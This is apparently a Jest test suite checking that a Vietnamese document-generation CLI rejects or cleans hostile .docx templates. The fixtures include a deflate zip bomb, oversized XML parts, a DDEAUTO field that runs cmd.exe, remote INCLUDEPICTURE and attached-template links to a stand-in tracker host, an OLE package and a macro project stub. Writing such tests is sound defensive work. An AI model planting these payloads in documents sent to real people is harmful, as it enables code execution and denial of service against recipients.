// Hostile .docx templates, each generated here, given to `chuyende mau` and `de-dan --mau`
// in a child process: every run ends in under 10 s and 1 GB (the child's peak, measured by
// /usr/bin/time) with a Vietnamese message or a cleaned document; the template file is
// never changed; every XML part written is valid (xmllint).
jest.setTimeout(300_000);
import { mkdirSync, readFileSync, writeFileSync } from "fs";
import * as path from "path";
import { unzipSync } from "fflate";
import { ensureBuilt } from "../cli/helpers/run";
import { makeTempDir, removeTempDir, writeXlsx } from "../support/xlsx";
import { docxText } from "../documents/docx";
import { addGoodRegister, expectNoStack } from "./support";
import {
  CONTENT_TYPES,
  ROOT_RELS,
  allPartsText,
  deflateBomb,
  documentXml,
  honestZip,
  invalidXmlParts,
  rawZip,
  rels,
  runMeasured,
  settingsXml,
  sha256,
  type Measured,
} from "./templateSupport";

const GiB = 1024 * 1024 * 1024;
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

let dir: string;
let book: string;
beforeAll(async () => {
  ensureBuilt();
  dir = makeTempDir("chuyende-hard-mau-");
  book = path.join(dir, "so.xlsx");
  await writeXlsx(book, (wb) => void addGoodRegister(wb));
}, 180_000);
afterAll(() => removeTempDir(dir));

function within(r: Measured): void {
  expect(r.seconds).toBeLessThan(10);
  expect(r.maxRss).toBeLessThan(GiB);
  expectNoStack(r.stderr);
  expect(r.stderr).toBe(r.stderr.normalize("NFC"));
}

/** Writes `bytes` as a template in its own folder; returns its path. */
function template(name: string, bytes: Uint8Array): string {
  const own = path.join(dir, name);
  mkdirSync(own);
  const file = path.join(own, "mau.docx");
  writeFileSync(file, bytes);
  return file;
}

const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
/** A complex field: begin, instruction, separate, the displayed result, end. */
const complexField = (instr: string, shown: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${instr} </w:instrText></w:r>` +
  `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

describe("refused quickly, in Vietnamese, naming the template", () => {
  test.each([
    [
      "a document.xml that declares 4 KB and inflates to 1 GiB",
      () =>
        rawZip([
          { name: "[Content_Types].xml", data: new TextEncoder().encode(CONTENT_TYPES) },
          { name: "_rels/.rels", data: new TextEncoder().encode(ROOT_RELS) },
          { name: "word/document.xml", data: deflateBomb(documentXml("").slice(0, 200), GiB), method: 8, declaredSize: 4096 },
        ]),
      /Mẫu mau\.docx quá lớn.*word\/document\.xml.*MB/,
    ],
    [
      "an honest 48 MB document.xml (a small .docx)",
      () =>
        honestZip({
          "[Content_Types].xml": CONTENT_TYPES,
          "_rels/.rels": ROOT_RELS,
          "word/document.xml": documentXml(para("Đoạn văn bản lặp lại trong mẫu {tenChuyenDe}.").repeat(48 * 11_000)),
        }),
      /Mẫu mau\.docx quá lớn.*word\/document\.xml.*MB/,
    ],
    [
      "60,000 `<Relationship ` openings in the document's relationships",
      () =>
        honestZip({
          "[Content_Types].xml": CONTENT_TYPES,
          "_rels/.rels": ROOT_RELS,
          "word/document.xml": documentXml(para("{tenChuyenDe}")),
          "word/_rels/document.xml.rels": rels("<Relationship ".repeat(60_000)),
        }),
      /Mẫu mau\.docx (bị hỏng|quá lớn).*document\.xml\.rels/,
    ],
    [
      "60,000 well-formed relationships",
      () =>
        honestZip({
          "[Content_Types].xml": CONTENT_TYPES,
          "_rels/.rels": ROOT_RELS,
          "word/document.xml": documentXml(para("{tenChuyenDe}")),
          "word/_rels/document.xml.rels": rels(
            ...Array.from({ length: 60_000 }, (_, i) => `<Relationship Id="r${i}" Type="${REL}/image" Target="media/i${i}.png"/>`),
          ),
        }),
      /Mẫu mau\.docx quá lớn.*document\.xml\.rels/,
    ],
    [
      "a million empty paragraphs (under the part's size, over the element bound)",
      () =>
        honestZip({
          "[Content_Types].xml": CONTENT_TYPES,
          "_rels/.rels": ROOT_RELS,
          "word/document.xml": documentXml("<w:p/>".repeat(600_000)),
        }),
      /Mẫu mau\.docx quá lớn.*phần tử XML/,
    ],
  ])("%s", (_name, make, says) => {
    const file = template(_name.replace(/\W+/g, "-").slice(0, 40), make());
    const before = sha256(file);
    for (const args of [
      ["mau", file],
      ["de-dan", book, "--stt", "1", "-o", path.join(path.dirname(file), "ra.docx"), "--mau", file],
    ]) {
      const r = runMeasured(args);
      within(r);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe("");
      expect(r.stderr).toMatch(/^Lỗi: /);
      expect(r.stderr).toMatch(says);
    }
    expect(sha256(file)).toBe(before);
  });
});

describe("cleaned: what reaches outside or runs code is gone, the text stays", () => {
  const media = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4]);
  const nested = honestZip({ "inner.txt": "một tệp nén lồng bên trong" });
  const hostile = () =>
    honestZip({
      "[Content_Types].xml": CONTENT_TYPES.replace("</Types>", '<Default Extension="png" ContentType="image/png"/></Types>'),
      "_rels/.rels": ROOT_RELS,
      "word/document.xml": documentXml(
        para("Chuyên đề: {tenChuyenDe}") +
          complexField('INCLUDEPICTURE "http://tracker.example.com/p.png" \\d', "Ảnh từ xa") +
          complexField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "Liên kết DDE") +
          '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\server\\\\share\\\\a.docx&quot; "><w:r><w:t>Văn bản chèn</w:t></w:r></w:fldSimple></w:p>' +
          '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>' +
          complexField("NUMPAGES", "3") +
          '<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rIdImg"/></v:shape><o:OLEObject ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>' +
          '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>Trang ngoài</w:t></w:r></w:hyperlink></w:p>' +
          '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rIdImg"/></w:drawing></w:r></w:p>',
      ),
      "word/_rels/document.xml.rels": rels(
        `<Relationship Id="rIdSet" Type="${REL}/settings" Target="settings.xml"/>`,
        `<Relationship Id="rIdOle" Type="${REL}/package" Target="embeddings/nested.zip"/>`,
        `<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
        `<Relationship Id="rIdLink" Type="${REL}/hyperlink" Target="http://tracker.example.com/" TargetMode="External"/>`,
        `<Relationship Id="rIdImg" Type="${REL}/image" Target="media/image1.png"/>`,
      ),
      "word/settings.xml": settingsXml('<w:attachedTemplate r:id="rIdTpl"/><w:compat/>'),
      "word/_rels/settings.xml.rels": rels(
        `<Relationship Id="rIdTpl" Type="${REL}/attachedTemplate" Target="http://tracker.example.com/mau.dotm" TargetMode="External"/>`,
      ),
      "word/embeddings/nested.zip": nested,
      "word/vbaProject.bin": new Uint8Array(64),
      "word/media/image1.png": media,
      "word/sheet7.xml.bak": "<không được đọc/>",
    });

  test("mau names each thing removed and calls the template usable", () => {
    const file = template("cleaned-mau", hostile());
    const before = sha256(file);
    const r = runMeasured(["mau", file, "--loai", "de-dan"]);
    within(r);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/dùng được cho đề dẫn/);
    for (const said of [
      /trường INCLUDEPICTURE.*tracker\.example\.com/,
      /trường DDEAUTO/,
      /trường INCLUDETEXT/,
      /đối tượng nhúng/,
      /macro/,
      /mẫu đính kèm tải từ http:\/\/tracker\.example\.com\/mau\.dotm/,
      /siêu liên kết tới http:\/\/tracker\.example\.com\//,
      /phần khác trong tệp không được văn bản dùng tới/,
    ]) {
      expect(r.stdout).toMatch(said);
    }
    expect(r.stdout).not.toMatch(/trường (PAGE|NUMPAGES)\b/);
    expect(sha256(file)).toBe(before);
  });

  test("de-dan --mau: the document keeps the text shown and PAGE/NUMPAGES, nothing else", () => {
    const file = template("cleaned-de-dan", hostile());
    const before = sha256(file);
    const out = path.join(path.dirname(file), "de-dan.docx");
    const r = runMeasured(["de-dan", book, "--stt", "1", "-o", out, "--mau", file, "--ngay", "2024-12-31"]);
    within(r);
    expect(r.code).toBe(0);
    const bytes = new Uint8Array(readFileSync(out));
    expect(invalidXmlParts(bytes)).toEqual([]);
    const names = Object.keys(unzipSync(bytes)).sort();
    expect(names).toEqual(
      [
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/core.xml",
        "word/_rels/document.xml.rels",
        "word/document.xml",
        "word/media/image1.png",
        "word/settings.xml",
      ].sort(),
    );
    const parts = allPartsText(bytes);
    const all = Object.values(parts).join("\n");
    for (const gone of [
      "INCLUDEPICTURE",
      "DDEAUTO",
      "INCLUDETEXT",
      "tracker.example.com",
      "OLEObject",
      "attachedTemplate",
      "vbaProject",
      "External",
    ]) {
      expect(all).not.toContain(gone);
    }
    expect(parts["word/document.xml"]).toContain('w:instr=" PAGE "');
    expect(parts["word/document.xml"]).toContain("NUMPAGES");
    expect(parts["word/document.xml"]).toContain('r:embed="rIdImg"');
    const text = docxText(bytes);
    expect(text).toContain("Chuyên đề: Chuyên đề quý 1");
    for (const shown of ["Ảnh từ xa", "Liên kết DDE", "Văn bản chèn", "Trang ngoài"]) expect(text).toContain(shown);
    expect(sha256(file)).toBe(before);
  });
});
